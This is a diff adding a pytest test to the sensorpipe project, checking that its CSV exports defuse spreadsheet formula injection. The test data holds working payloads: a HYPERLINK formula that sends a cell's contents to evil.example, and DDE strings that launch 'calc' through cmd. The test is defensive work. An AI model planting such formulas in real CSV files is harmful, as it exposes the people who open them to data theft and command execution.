@@ -328,3 +328,32 @@ def test_an_influxdb_that_does_not_answer_leaves_the_register_part(directory: Pa
     assert "note: InfluxDB at http://127.0.0.1:9 does not answer" in result.stderr
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert len(rows) == 3 and "first_seen" not in rows[0]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Free-text register fields that start with = + - @, a tab or a carriage return get a
+    leading apostrophe in every CSV sensorpipe writes; numbers (negative ones too) stay."""
+    from sensorpipe.query.output import render
+
+    monkeypatch.setenv("SENSORPIPE_DIR", str(tmp_path / "no-stack"))
+    d = tmp_path / "st"
+    attacks = {
+        "owner": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "purpose": "+cmd|' /C calc'!A0",
+        "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "legal-basis": "-2+3+cmd|' /C calc'!A0",
+        "retention": "\t=1+1",
+        "licence": "\r=1+1",
+    }
+    options = [x for k, v in attacks.items() for x in (f"--{k}", v)]
+    added = run("devices", "add", "evil-1", "--dir", str(d), "--sensor", "sds011", *options)
+    assert added.exit_code == 0, added.output
+    text = run_export(d, "--format", "csv").stdout
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    for key, value in attacks.items():
+        assert row[key.replace("-", "_")] == "'" + value, key
+    # A query's CSV: text cells guarded, numbers as they are.
+    rendered = render([{"site": "=1+1", "temperature": -3.5}], ["site", "temperature"], "csv")
+    assert rendered == "site,temperature\n'=1+1,-3.5\n"
